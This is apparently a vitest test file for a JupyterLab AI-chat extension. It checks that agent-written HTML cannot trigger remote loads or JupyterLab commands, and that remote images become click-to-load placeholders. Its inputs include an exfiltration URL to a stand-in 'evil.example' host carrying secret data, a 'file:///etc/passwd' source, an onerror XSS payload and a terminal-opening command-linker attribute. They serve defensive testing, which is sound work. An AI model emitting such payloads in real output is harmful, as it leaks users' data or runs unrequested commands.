// @vitest-environment jsdom
import { Sanitizer } from '@jupyterlab/apputils/lib/sanitizer';
import { renderHTML } from '@jupyterlab/rendermime/lib/renderers';
import { describe, expect, it } from 'vitest';

import { blockRemoteLoads, enableImageLoading, PLACEHOLDER, withoutRemoteLoads } from '../src/images';

const REMOTE = 'https://evil.example/leak?data=secret';

function dom(html: string): HTMLElement {
  const host = document.createElement('div');
  host.innerHTML = html;
  return host;
}

/** What the sidebar renders: JupyterLab's sanitizer for untrusted HTML, then ours. */
async function rendered(html: string): Promise<HTMLElement> {
  const host = document.createElement('div');
  const sanitizer = withoutRemoteLoads(new Sanitizer());
  await renderHTML({ host, source: html, trusted: false, sanitizer, resolver: null,
    linkHandler: null, shouldTypeset: false, latexTypesetter: null });
  return host;
}

/** Every URL an element under `root` would fetch by itself. */
function fetched(root: HTMLElement): string[] {
  const urls: string[] = [];
  root.querySelectorAll('*').forEach(element => {
    for (const name of ['src', 'srcset', 'poster', 'background', 'data', 'href']) {
      const value = element.getAttribute(name);
      if (value !== null && !(name === 'href' && ['a', 'area'].includes(element.localName))) {
        urls.push(`${element.localName}[${name}]=${value}`);
      }
    }
    const style = element.getAttribute('style') ?? '';
    if (/url\(/i.test(style)) {
      urls.push(`${element.localName}[style]=${style}`);
    }
  });
  return urls;
}

describe('blockRemoteLoads', () => {
  it.each([
    REMOTE,
    'http://127.0.0.1:9/x.png',
    '//evil.example/x.png',
    'files/secret.png',
    '/api/contents',
    'file:///etc/passwd',
    'blob:https://evil.example/1',
    '\u00a0data:image/png;base64,AA' // a relative URL to the browser, not a data: one
  ])('turns an image from %s into a placeholder', src => {
    const root = dom(blockRemoteLoads(`<p>see <img src="${src}" alt="a chart"></p>`));
    expect(root.querySelector('img')).toBeNull();
    const box = root.querySelector<HTMLElement>(`.${PLACEHOLDER}`)!;
    expect(box.dataset.src).toBe(src);
    expect(box.textContent).toContain('a chart');
    expect(box.querySelector('code')!.textContent).toBe(src);
    expect(box.querySelector('button')!.textContent).toBe('Load image');
    expect(fetched(root)).toEqual([]);
  });

  it('keeps data:image and attachment: images', () => {
    const html = '<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">' +
      '<img src="attachment:plot.png" alt="attached">';
    const root = dom(blockRemoteLoads(html));
    expect([...root.querySelectorAll('img')].map(img => img.getAttribute('src'))).toEqual([
      'data:image/png;base64,iVBORw0KGgo=',
      'attachment:plot.png'
    ]);
    expect(root.querySelector(`.${PLACEHOLDER}`)).toBeNull();
  });

  it('shows "Image" when there is no alt text, and escapes what it shows', () => {
    const root = dom(blockRemoteLoads('<img src="https://e.example/&quot;&lt;b&gt;">'));
    const box = root.querySelector<HTMLElement>(`.${PLACEHOLDER}`)!;
    expect(box.querySelector('.jp-AgenstraChat-imageAlt')!.textContent).toBe('Image');
    expect(box.querySelector('code')!.textContent).toBe('https://e.example/"<b>');
    expect(box.querySelector('b')).toBeNull();
  });

  it('drops every other attribute and element that fetches by itself', () => {
    const html = [
      '<img src="data:image/png;base64,AA" srcset="https://e.example/2x.png 2x">',
      '<picture><source srcset="https://e.example/p.webp"><img src="data:image/gif;base64,R0"></picture>',
      '<video poster="https://e.example/poster.png" src="https://e.example/v.mp4"><track src="https://e.example/t.vtt"></video>',
      '<audio src="https://e.example/a.mp3"></audio>',
      '<input type="image" src="https://e.example/i.png">',
      '<div style="background: url(https://e.example/bg.png)">bg</div>',
      '<span style="color: red; background-image: image-set(\'https://e.example/s.png\' 1x)">s</span>',
      '<table background="https://e.example/t.png"><tr><td background="https://e.example/td.png">t</td></tr></table>',
      '<link rel="stylesheet" href="https://e.example/s.css"><iframe src="https://e.example/"></iframe>',
      '<object data="https://e.example/o"></object><embed src="https://e.example/e">',
      '<svg><image href="https://e.example/svg.png"/></svg><style>@import "https://e.example/i.css";</style>',
      '<a href="https://e.example/ok">a link is fine: it needs a click</a>'
    ].join('\n');
    const root = dom(blockRemoteLoads(html));
    expect(fetched(root)).toEqual([
      'img[src]=data:image/png;base64,AA',
      'img[src]=data:image/gif;base64,R0'
    ]);
    expect(root.querySelector('span')!.getAttribute('style')).toBeNull();
    expect(root.querySelector('a')!.getAttribute('href')).toBe('https://e.example/ok');
    expect(root.textContent).toContain('bg');
  });

  it('drops command-linker attributes: a click must not run a JupyterLab command', () => {
    const root = dom(blockRemoteLoads(
      '<button data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">x</button>'));
    expect(root.querySelector('button')!.getAttributeNames()).toEqual([]);
  });
});

describe('the sidebar pipeline (JupyterLab sanitizer, then ours)', () => {
  it('lets no remote load through, whatever raw HTML the agent writes', async () => {
    const host = await rendered([
      `<p><img src="${REMOTE}" alt="leak"></p>`,
      '<img src="x" onerror="alert(1)">',
      '<video poster="https://e.example/p.png" src="https://e.example/v.mp4" controls></video>',
      '<audio src="https://e.example/a.mp3" controls></audio>',
      '<picture><source srcset="https://e.example/p.webp" type="image/webp"></picture>',
      '<input type="image" src="https://e.example/i.png">',
      '<div style="background-image: url(https://e.example/bg.png)">styled</div>',
      '<iframe src="https://e.example/"></iframe><object data="https://e.example/o"></object>',
      '<embed src="https://e.example/e"><link rel="prefetch" href="https://e.example/l">',
      '<table background="https://e.example/t.png"><tr><td>t</td></tr></table>'
    ].join('\n'));
    expect(fetched(host)).toEqual([]);
    expect(host.querySelectorAll(`.${PLACEHOLDER}`)).toHaveLength(2);
    expect(host.querySelector('[onerror]')).toBeNull();
    expect(host.textContent).toContain('styled');
  });

  it('loads a placeholder image when, and only when, its button is clicked', async () => {
    const host = await rendered(`<p>before <img src="${REMOTE}" alt="chart"> after</p>`);
    enableImageLoading(host);
    expect(host.querySelector('img')).toBeNull();
    host.querySelector<HTMLButtonElement>(`.${PLACEHOLDER} button`)!.click();
    const img = host.querySelector('img')!;
    expect(img.getAttribute('src')).toBe(REMOTE);
    expect(img.alt).toBe('chart');
    expect(host.querySelector(`.${PLACEHOLDER}`)).toBeNull();
    expect(host.textContent).toBe('before  after');
  });

  it('does not wire a look-alike placeholder written by the agent', async () => {
    const host = await rendered(
      `<span class="${PLACEHOLDER}" data-src="${REMOTE}"><button>Load image</button></span>`);
    enableImageLoading(host);
    host.querySelector('button')!.click();
    expect(host.querySelector('img')).toBeNull();
  });
});
